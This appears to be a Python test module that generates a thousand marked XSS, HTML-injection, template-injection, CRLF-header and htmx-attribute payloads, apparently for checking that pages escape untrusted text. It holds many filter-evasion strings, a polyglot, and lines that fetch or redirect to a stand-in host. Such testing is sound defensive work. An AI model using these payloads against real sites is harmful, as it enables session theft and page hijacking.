"""Texts that would be code if a page forgot to write them as text: by family, combined to a thousand, the same in every run.

Each carries MARCA, so that whatever of them becomes an element or an attribute is found in the page.
"""

from itertools import product

MARCA = "x9z"
_ACCION = (
    "alert('x9z')",
    "alert`x9z`",
    "fetch('//x9z.invalid/')",
    "location='//x9z.invalid/'",
    "document.body.id='x9z'",
    "top['al'+'ert']('x9z')",
)
_ETIQUETAS = ("img src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "object data=x", "select autofocus",
              "textarea autofocus", "math", "a href=x", "form", "button", "style", "keygen autofocus", "isindex", "x", "custom-x9z", "template", "dialog open")  # fmt: skip
_EVENTOS = (
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "onhashchange",
)
_ABRE = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "`>",
    '"/>',
    "\"'>",
    "</p></div>",
    "</svg>",
)
_URIS = ("javascript:alert('x9z')", "JaVaScRiPt:alert('x9z')", "java\tscript:alert('x9z')", "javascript&colon;alert('x9z')", "data:text/html,<script>alert('x9z')</script>",
         "data:image/svg+xml,<svg onload=alert('x9z')>", "vbscript:msgbox('x9z')", "//x9z.invalid/", "https://x9z.invalid/", "\x01javascript:alert('x9z')",
         "jav&#x0A;ascript:alert('x9z')", "view-source:x9z", "blob:x9z")  # fmt: skip
_DONDE = ("a href", "img src", "iframe src", "form action", "button formaction", "object data", "embed src", "link rel=stylesheet href", "script src", "base href",
          "meta http-equiv=refresh content", "svg><use href", "math><mi href", "video poster", "body background", "input type=image src")  # fmt: skip
_HTMX = ("hx-get", "hx-post", "data-hx-get", "data-hx-post", "hx-on:load", "hx-on::load", "data-hx-on:load", "hx-vals", "hx-headers", "hx-swap-oob", "hx-trigger", "hx-target",
         "hx-include", "hx-boost", "hx-ext", "hx-push-url", "hx-select-oob", "hx-vars", "hx-request", "hx-disinherit")  # fmt: skip
_HTMX_VALORES = (
    "//x9z.invalid/",
    "js:alert('x9z')",
    "alert('x9z')",
    "load",
    "true:#principal",
    "/salir/",
    "javascript:alert('x9z')",
)
_SUELTAS = (
    "{{alert('x9z')}}", "{{constructor.constructor('alert(1)')()}} x9z", "{% debug %} x9z", "{% load x9z %}", "{# x9z #}", "<%= x9z %>", "#{x9z}", "{{7*7}}x9z", "[[x9z]]",
    "<script>alert('x9z')</script>", "<script src=//x9z.invalid/></script>", "<scr<script>ipt>alert('x9z')</scr</script>ipt>", "<<script>alert('x9z');//<</script>",
    "<script\x0bx9z>alert(1)</script>", "<ScRiPt x9z>alert(1)</sCrIpT>", "<style>@import '//x9z.invalid/';</style>", "<style>*{background:url(//x9z.invalid/)}</style>",
    "x9z{background:url(//x9z.invalid/)}", "};alert('x9z');{", "';alert('x9z');//", "\";alert('x9z');//", "\\';alert('x9z');//", "`;alert('x9z');//", "${alert('x9z')}",
    "x9z\r\nHX-Redirect: https://x9z.invalid/", "x9z\r\nSet-Cookie: x9z=1", "x9z%0d%0aLocation:%20//x9z.invalid/", "x9z\r\n\r\n<script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert('x9z')//\">", "<![CDATA[<script>alert('x9z')</script>]]>", "<?xml version=\"1.0\"?><x9z/>", "<!DOCTYPE x9z>",
    "&lt;script&gt;alert('x9z')&lt;/script&gt;", "&#60;script&#62;alert('x9z')&#60;/script&#62;", "&amp;lt;img x9z&amp;gt;", "%3Cscript%3Ealert('x9z')%3C/script%3E",
    "\\u003cscript\\u003ealert('x9z')", "＜script＞alert('x9z')＜/script＞", "<\x00script>alert('x9z')</script>".replace("\x00", ""), "+ADw-script+AD4-alert('x9z')",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('x9z') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('x9z')//>\\x3e",
    "<svg><animate onbegin=alert('x9z') attributeName=x>", "<svg><set attributeName=href to=javascript:alert('x9z')>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>' x9z>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('x9z')&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert('x9z')>\">",
    "<form id=x9z><input name=action>", "<a id=x9z name=htmx>", "<img name=getElementById x9z>", "<input form=formulario name=version value=99 x9z>", "<base target=_blank x9z>",
    "<link rel=prefetch href=//x9z.invalid/>", "<meta http-equiv=refresh content='0;url=//x9z.invalid/'>", "<meta name=htmx-config content='{\"allowEval\":true}' x9z>",
    "<details x9z open ontoggle=alert(1)>", "<x9z style=position:fixed;inset:0>", "<portal src=//x9z.invalid/>", "<template shadowrootmode=open><slot x9z></slot></template>",
)  # fmt: skip


def cargas(cuantas: int) -> list[str]:
    """One of each family in its turn, until there are as many."""
    familias = [
        list(_SUELTAS),
        [f"{a}<{e} {v}={x} {MARCA}>" for (e, v), (a, x) in zip(product(_ETIQUETAS, _EVENTOS), _vueltas(_ABRE, _ACCION), strict=False)],
        [f"{a}<{d}=\"{u}\" {MARCA}>" for (d, u), (a, _) in zip(product(_DONDE, _URIS), _vueltas(_ABRE, _ACCION), strict=False)],
        [f'{a}<div {h}="{v}" {MARCA}>' for (h, v), (a, _) in zip(product(_HTMX, _HTMX_VALORES), _vueltas(_ABRE, _ACCION), strict=False)],
        [f'{c} {v}={x} {MARCA}={c}' for c, v, x in product(('"', "'", "`", ""), _EVENTOS, _ACCION)],
        [f'{c} {h}={c}{v}{c} {MARCA}={c}' for c, h, v in product(('"', "'"), _HTMX, _HTMX_VALORES)],
    ]  # fmt: skip
    hechas: list[str] = []
    for n in range(max(map(len, familias))):
        hechas += [familia[n] for familia in familias if n < len(familia)]
    distintas = list(dict.fromkeys(hechas))
    assert len(distintas) >= cuantas
    return distintas[:cuantas]


def _vueltas(*listas: tuple[str, ...]) -> list[tuple[str, ...]]:
    """Pairs of both lists, over and over, in another order than the product they go with."""
    parejas = [(a, b) for b in listas[1] for a in listas[0]]
    return [parejas[(n * 7) % len(parejas)] for n in range(5000)]


def inocente(carga: str) -> str:
    """As long, with its spaces in the same places, and nothing else."""
    return "".join(letra if letra == " " else "aeioubcd"[(ord(letra) + n) % 8] for n, letra in enumerate(carga))
